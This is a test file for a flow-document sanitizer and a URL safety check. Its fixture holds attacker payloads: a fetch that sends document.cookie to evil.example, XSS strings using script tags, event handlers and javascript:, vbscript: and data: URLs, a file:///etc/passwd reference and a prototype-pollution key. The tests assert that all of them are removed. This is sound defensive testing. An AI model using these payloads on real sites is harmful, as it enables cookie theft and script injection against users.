import { describe, expect, it } from 'vitest';
import { sanitizeFlowDocument } from './document.js';
import { isSafeUrl, plainText } from './safe-content.js';

/** A flow as an attacker would store it through the API or a hand-made JSON upload (version 0 and 1). */
const attack = {
  version: 1,
  initJs: 'fetch("https://evil.example/?c=" + document.cookie)',
  websocket: 'wss://evil.example/socket',
  mqttUrl: 'ws://evil.example:8083/mqtt',
  mqttOptions: { username: 'x' },
  mqttTopics: 'secret/#',
  http: 'https://evil.example/poll',
  httpTimeInterval: 100,
  https: [{ http: 'https://evil.example', httpTimeInterval: 10, httpHeaders: {} }],
  networks: [{ protocol: 'websocket', url: 'wss://evil.example', onMessage: 'alert(1)' }],
  socketCbJs: 'alert(1)',
  iconUrls: ['https://evil.example/font.css'],
  canvas: { bkImage: 'javascript:alert(1)', bkColor: '#000' },
  pens: [
    {
      id: 'p1',
      name: 'text',
      x: 0,
      y: 0,
      width: 100,
      height: 20,
      text: 'Level <script>alert(1)</script><b onclick="alert(2)">ok</b> [docs](javascript:alert(3)) [site](/alertInfo)',
      markdown: '<img src=x onerror=alert(1)>**bold**',
      initJs: 'alert(1)',
      fnJs: 'alert(1)',
      onAdd: 'alert(1)',
      onValue: 'alert(1)',
      events: [
        { type: 0, name: 'click', action: 5, value: 'alert(document.cookie)' },
        { type: 0, name: 'click', action: 6, value: 'stealAll' },
        { type: 0, name: 'click', action: '5', value: 'alert(1)' },
        { type: 0, name: 'click', action: 0, value: 'javascript:alert(1)', params: '_blank' },
        { type: 0, name: 'click', action: 0, value: 'https://example.com/manual', params: '_blank' },
        { type: 0, name: 'click', action: 1, value: { iframe: 'javascript:alert(1)', text: '<script>x</script>hi' } },
        { type: 0, name: 'click', action: 2, myType: '3', url: 'vbscript:msgbox(1)', tw: 50, th: 50 },
        { type: 0, name: 'click', action: 2, myType: '1', url: '//evil.example/', tw: 50, th: 50 },
        { type: 0, name: 'click', action: 0, value: 'jav\tascript:alert(1)' },
      ],
    },
    {
      id: 'p2',
      name: 'iframe',
      x: 0,
      y: 0,
      width: 100,
      height: 100,
      iframe: 'javascript:alert(1)',
      image: 'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
      video: 'file:///etc/passwd',
      data: { urlInfo: 'data:text/html,<script>alert(1)</script>' },
    },
    {
      id: 'p3',
      name: 'echarts',
      x: 0,
      y: 0,
      width: 100,
      height: 100,
      image: 'data:image/png;base64,iVBORw0KGgo=',
      data: {
        echarts: {
          type: '2',
          option: {
            tooltip: { formatter: 'function (p) { return fetch("https://evil.example") }' },
            yAxis: { axisLabel: { formatter: '(v) => v + "°C"' } },
            series: [{ type: 'bar', data: [1, 2], label: { formatter: '{c} m³' } }],
            ['__proto__']: { polluted: true },
          },
        },
      },
    },
  ],
};

describe('sanitizing a flow', () => {
  const doc = sanitizeFlowDocument(attack);
  if (!doc.success) throw doc.error;
  const json = JSON.stringify(doc.data);
  const [text, frame, chart] = doc.data.pens;

  it('keeps no code-bearing or network field anywhere', () => {
    for (const word of [
      'initJs',
      'fnJs',
      'websocket',
      'mqtt',
      'http"',
      'https"',
      'networks',
      'socketCbJs',
      'iconUrls',
      'onAdd',
      'onValue',
    ]) {
      expect(json).not.toContain(word);
    }
    expect(json).not.toMatch(/javascript|vbscript|script>|onerror|onclick|evil\.example|file:|text\/html|polluted/i);
  });

  it('drops the events that run code and the unsafe addresses of the others', () => {
    expect(text!.events!.map((e) => e.action)).toEqual([0, 0, 1, 2, 2, 0]);
    expect(text!.events![0]!.value).toBeUndefined();
    expect(text!.events![1]!.value).toBe('https://example.com/manual');
    expect(text!.events![2]!.value).toEqual({ text: 'hi' });
    expect(text!.events![3]!.url).toBeUndefined();
    expect(text!.events![4]!.url).toBeUndefined();
    expect(text!.events![5]!.value).toBeUndefined();
  });

  it('keeps the rest: plain text, safe links, raster images, chart options without functions', () => {
    expect(text!.text).toBe('Level ok docs [site](/alertInfo)');
    expect(text!.markdown).toBe('**bold**');
    expect(frame).toMatchObject({ id: 'p2', name: 'iframe', width: 100 });
    expect(frame!.iframe ?? frame!.image ?? frame!.video ?? frame!.data!.urlInfo).toBeUndefined();
    expect(chart!.image).toBe('data:image/png;base64,iVBORw0KGgo=');
    expect(chart!.data!.echarts!.option).toEqual({
      tooltip: {},
      yAxis: { axisLabel: {} },
      series: [{ type: 'bar', data: [1, 2], label: { formatter: '{c} m³' } }],
    });
    expect(doc.data.canvas).toMatchObject({ bkColor: '#000' });
    expect(doc.data.canvas.bkImage).toBeUndefined();
  });

  it('drops the same from a version 0 dump (the engine data the original product stored)', () => {
    const { version: _v, canvas: _c, ...v0 } = attack;
    const old = sanitizeFlowDocument({ ...v0, bkImage: 'javascript:alert(1)', bkColor: '#fff' });
    expect(old.success).toBe(true);
    expect(JSON.stringify(old.data)).not.toMatch(/javascript|initJs|evil\.example|script>/i);
    expect(old.data!.pens).toHaveLength(3);
  });
});

describe('safe content', () => {
  it('accepts http(s) and site paths only', () => {
    for (const url of ['https://a.example/x', 'HTTP://a.example', '/workspace?isid=3', '', ' /x ']) {
      expect(isSafeUrl(url), url).toBe(true);
    }
    for (const url of [
      'javascript:alert(1)',
      ' JavaScript:x',
      'java\nscript:x',
      'data:text/html,x',
      '//evil',
      '/\\evil',
      'ftp://x',
      'mailto:a@b',
      'relative/path',
    ]) {
      expect(isSafeUrl(url), url).toBe(false);
    }
  });

  it('keeps comparison signs that are not markup', () => {
    expect(plainText('a < b and c > d')).toBe('a < b and c > d');
  });
});
